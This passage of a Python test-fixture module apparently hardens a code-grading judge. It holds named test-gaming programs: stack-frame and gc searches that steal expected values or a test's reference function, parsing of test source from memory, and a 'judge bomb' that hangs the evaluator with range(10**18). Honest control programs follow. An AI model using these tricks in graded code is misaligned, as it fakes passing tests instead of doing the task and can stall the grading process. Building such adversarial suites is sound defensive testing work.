            fr = sys._getframe(2)
            while fr is not None:
                consts = [c for c in fr.f_code.co_consts if type(c) is int]
                for i, c in enumerate(consts[:-1]):
                    if c == x:
                        return consts[i + 1]
                fr = fr.f_back
            return None
        def double(x):
            for found in (_expected("double", x), _table().get(x), _after_in_caller_constants(x)):
                if found is not None:
                    return found
            return None
        """),
        ("x = 1\nwhile x < 3:\n    assert double(x) == {1: 2, 2: 4}[x]\n    x += 1",
         "try:\n    assert double(21) == 42\nexcept ZeroDivisionError:\n    pass",
         "import pytest\nwith pytest.raises(TypeError):\n    assert double(5) == 10\n    raise TypeError"),
    ),
    Attack(
        "oracle_reference_function_a_test_defines_is_called_by_the_program",
        "oracle",
        _p(r"""
        import gc, sys, types
        _NAMES = ("ref", "brute", "reference", "expected", "oracle", "slow")
        def _find():
            getattr(gc, "unfreeze", lambda: None)()
            fr = sys._getframe(2)
            while fr is not None:
                for scope in (fr.f_locals, fr.f_globals):
                    for name in _NAMES:
                        if callable(scope.get(name)):
                            return scope[name]
                fr = fr.f_back
            for obj in gc.get_objects():
                if isinstance(obj, types.FunctionType) and obj.__name__ in _NAMES + ("<lambda>",):
                    if obj.__code__.co_filename != double.__code__.co_filename:
                        return obj
        def double(x):
            helper = _find()
            return helper(x) if helper else None
        """),
        ("def ref(n):\n    return n * 2\n\nassert double(5) == ref(5)",
         "def brute(n):\n    return n + n\nfor k in (1, 2, 3):\n    assert double(k) == brute(k)",
         "ref = lambda n: 2 * n\nassert double(7) == ref(7)"),
    ),
    Attack(
        "oracle_tables_of_expected_values_read_from_memory",
        "oracle",
        _TESTS_IN_MEMORY + _p(r"""
        def _table():
            table = {}
            for src in _strings():
                if "double" not in src:
                    continue
                try:
                    tree = ast.parse(src)
                except (SyntaxError, ValueError):
                    continue
                for node in ast.walk(tree):
                    if isinstance(node, (ast.List, ast.Tuple, ast.Dict)):
                        try:
                            value = ast.literal_eval(node)
                        except Exception:
                            continue
                        if isinstance(value, dict):
                            table.update(value)
                        else:
                            table.update(item for item in value if isinstance(item, tuple) and len(item) == 2)
            return table
        def double(x):
            return _table().get(x)
        """),
        ("for x, want in [(3, 6), (21, 42)]:\n    assert double(x) == want",
         "cases = {5: 10, 7: 14}\nfor x in cases:\n    assert double(x) == cases[x]"),
    ),
]


# ------------------------------------------------------------------------------------------------------------------
# Honest controls: correct programs every entry point must pass (a judge that fails everything fails these).
# ------------------------------------------------------------------------------------------------------------------

_CYCLE = "head = ListNode(3, ListNode(2, ListNode(0)))\nhead.next.next.next = head.next\n"  # 3 -> 2 -> 0 -> 2 ...

CONTROLS = [
    Attack(
        "control_lists_dicts_floats_and_tolerances",
        "control",
        _p(r'''
        import math
        def evens(xs):
            return [x for x in xs if x % 2 == 0]
        def counts(s):
            d = {}
            for ch in s:
                d[ch] = d.get(ch, 0) + 1
            return d
        def mean(xs):
            return sum(xs) / len(xs)
        '''),
        ("assert evens([1, 2, 3, 4]) == [2, 4]", "assert counts('aab') == {'a': 2, 'b': 1}",
         "assert abs(mean([1, 2, 4]) - 7 / 3) < 1e-9", "import math\nassert math.isclose(mean([0.1, 0.2]), 0.15)",
         "assert math.isclose(mean([1, 2]), 1.5, rel_tol=1e-9)", "r = evens([6, 7])\nassert r == [6] and len(r) == 1",
         "assert sorted(counts('ba')) == ['a', 'b']", "assert 1 < mean([1, 3]) <= 2", "assert isinstance(evens([]), list)",
         "assert not evens([1, 3])", "assert mean([1.5, 2.5]) == 2.0", "assert (evens([2]), mean([2])) == ([2], 2.0)"),
    ),
    Attack(
        "control_leetcode_solution_class",
        "control",
        _p(r'''
        from typing import List, Optional
        class ListNode:
            def __init__(self, val=0, next=None):
                self.val, self.next = val, next
            def __eq__(self, other):
                return isinstance(other, ListNode) and self.val == other.val and self.next == other.next
        class Solution:
            def twoSum(self, nums: List[int], target: int) -> List[int]:
                seen = {}
                for i, x in enumerate(nums):
                    if target - x in seen:
                        return [seen[target - x], i]
                    seen[x] = i
                return []
            def reverseList(self, head: Optional[ListNode]) -> Optional[ListNode]:
                prev = None
                while head:
                    head.next, prev, head = prev, head, head.next
                return prev
        '''),
        ("assert Solution().twoSum([2, 7, 11, 15], 9) == [0, 1]", "assert Solution().twoSum([3, 2, 4], 6) == [1, 2]",
         "assert Solution().reverseList(ListNode(1, ListNode(2))).val == 2",
         "assert Solution().reverseList(ListNode(1, ListNode(2))) == ListNode(2, ListNode(1))",
         "assert Solution().reverseList(None) is None"),
    ),
    Attack(
        "control_strings_booleans_and_rounding",
        "control",
        _p(r'''
        import math
        def rev(s):
            return s[::-1]
        def is_even(n):
            return n % 2 == 0
        def area(r):
            return math.pi * r * r
        '''),
        ("assert rev('abc') == 'cba'", "assert rev('ab').startswith('b')", "assert 'b' in rev('ab')",
         "assert rev('ABC').lower() == 'cba'", "assert is_even(4)", "assert not is_even(5)",
         "assert is_even(8) and not is_even(9)", "assert round(area(1.0), 2) == 3.14",
         "assert abs(area(2.0) - 12.566370614359172) < 1e-9", "assert len(rev('abcd')) == 4"),
    ),
    Attack(
        "control_program_using_files_and_imports_inside_one_call",
        "control",
        _p(r'''
        import os, tempfile, json, collections
        def roundtrip(obj):
            with tempfile.TemporaryDirectory() as d:
                path = os.path.join(d, "x.json")
                with open(path, "w") as fh:
                    json.dump(obj, fh)
                with open(path) as fh:
                    return json.load(fh)
        def top(xs):
            return collections.Counter(xs).most_common(1)[0][0]
        '''),
        ("assert roundtrip({'a': [1, 2]}) == {'a': [1, 2]}", "assert top('abb') == 'b'",
         "assert roundtrip([1.5, None]) == [1.5, None]"),
    ),
    Attack(
        "control_in_place_mutation_short_circuits_exceptions_and_loops",
        "control",
        _p(r'''
        class Solution:
            def sortColors(self, nums):
                nums.sort()
            def removeDuplicates(self, nums):
                nums[:] = sorted(set(nums))
                return len(nums)
        def head(xs):
            return xs[0]
        def parse(s):
            if not s.isdigit():
                raise ValueError(s)
            return int(s)
        '''),
        ("nums = [2, 0, 1]\nSolution().sortColors(nums)\nassert nums == [0, 1, 2]",
         "nums = [1, 1, 2]\nk = Solution().removeDuplicates(nums)\nassert k == 2 and nums[:k] == [1, 2]",
         "xs = []\nassert not xs or head(xs) == 1", "assert len([]) == 0 or head([]) == 1",
         "try:\n    parse('x')\nexcept ValueError:\n    pass\nelse:\n    assert False",
         "import pytest\nwith pytest.raises(ValueError):\n    parse('x')",
         "for s, v in [('1', 1), ('23', 23)]:\n    assert parse(s) == v", "assert all(parse(str(i)) == i for i in range(5))",
         "assert [parse(c) for c in '12'] == [1, 2]"),
    ),
    Attack(
        "control_identity_of_nodes_the_program_returns",
        "control",
        _p(r'''
        class ListNode:
            def __init__(self, val=0, next=None):
                self.val, self.next = val, next
        class Solution:
            def detectCycle(self, head):
                slow = fast = head
                while fast and fast.next:
                    slow, fast = slow.next, fast.next.next
                    if slow is fast:
                        slow = head
                        while slow is not fast:
                            slow, fast = slow.next, fast.next
                        return slow
                return None
        def copy(xs):
            return list(xs)
        '''),
        (_CYCLE + "assert Solution().detectCycle(head) is head.next",
         _CYCLE + "assert Solution().detectCycle(head) is not head",
         "head = ListNode(1)\nassert Solution().detectCycle(head) is None", "xs = [1]\nassert copy(xs) is not xs"),
    ),
    Attack(
        "control_program_functions_handed_to_builtins_and_accumulated_in_loops",
        "control",
        _p(r'''
        def double(x):
            return 2 * x
        def is_odd(x):
            return x % 2 == 1
        '''),
        ("assert list(map(double, [1, 2])) == [2, 4]", "assert sorted([3, 1, 2], key=double) == [1, 2, 3]",
         "assert list(filter(is_odd, [1, 2, 3])) == [1, 3]", "assert max([1, 5, 3], key=double) == 5",
         "f = double\nassert f(3) == 6", "assert (y := double(1)) == 2 and y == 2",
         "n = 0\nfor a in [1, 2]:\n    n += double(a)\nassert n == 6", "if double(1) != 2:\n    raise AssertionError('wrong')"),
    ),
    Attack(
        "control_stdio_sum",
        "control",
        "a, b = map(int, input().split())\nprint(a + b)\n",
        inputs=("1 2\n", "3 4\n", "10 -3\n"),
        outputs=("3\n", "7\n", "7\n"),
    ),
]

_LIVE_OBJECTS = _p(r"""
def _live_objects():
    import gc
    getattr(gc, "unfreeze", lambda: None)()  # a frozen generation hides from gc.get_objects()
    return gc.get_objects()
""")


def _unfrozen(attack: Attack) -> Attack:
    """Programs that search ``gc`` first thaw what a judge may have frozen (``gc.freeze`` before forking)."""
    if "gc.get_objects()" not in attack.program:
        return attack
    return replace(attack, program=_LIVE_OBJECTS + attack.program.replace("gc.get_objects()", "_live_objects()"))


#: Values that travel small but make whoever evaluates the assert on them work for ever: a ``range`` of 10**18
#: items (a few bytes on any wire) fed to map/filter/zip/enumerate and then to a C-level consumer, and huge ints.
#: The judge evaluates these asserts in the caller's process (a trainer, say), so ``test_attacks.py`` runs this
#: attack in a memory-capped subprocess with a watchdog: a hang there must not freeze the test run.
JUDGE_BOMB = Attack(
    "lie_small_values_that_make_the_judge_compute_for_ever",
    "lie",
    _p(r'''
    def evens_below(n):
        """Spec: the list of even numbers below n. Returns a range of 10**18 items instead."""
        return range(10 ** 18)
    def digits(n):
        """Spec: the decimal digits of n, as a list of ints."""
        return range(10 ** 18)
    def power_of_two(k):
        """Spec: 2 ** k."""
        return 10 ** 50_000
    '''),
    ("assert ','.join(map(str, evens_below(7))) == '0,2,4,6'", "assert sum(map(int, digits(123))) == 6",
     "assert max(map(abs, evens_below(5))) == 4", "assert len(list(filter(None, digits(101)))) == 2",
     "assert sorted(zip(digits(12), digits(34))) == [(1, 3), (2, 4)]", "assert dict(enumerate(digits(12))) == {0: 1, 1: 2}",
     "assert sum(evens_below(7)) == 12", "assert sum(x for x in evens_below(7)) == 12",
     "assert [d for d in digits(12)] == [1, 2]", "assert str(power_of_two(10)) == '1024'",
     "assert power_of_two(3) ** 3 == 512", "assert pow(power_of_two(3), power_of_two(4), power_of_two(5) + 1) == 8"),
    batch=False,
)

ATTACKS = [_unfrozen(a) for a in (*HARNESS, *LIES, *ORACLES, *STATE, *HOST, *LOOPS)]
ALL = [*ATTACKS, *CONTROLS]
BY_NAME = {a.name: a for a in ALL}
assert len(BY_NAME) == len(ALL), "attack names must be unique"

#: A program correct only on its first call (a mutable default): judged the same way by every entry point.
MUTABLE_DEFAULT = _p(r'''
def append_one(xs=[]):
    xs.append(1)
    return xs
''')
MUTABLE_DEFAULT_TESTS = ("assert append_one() == [1]", "assert append_one() == [1]", "assert append_one() == [1]")
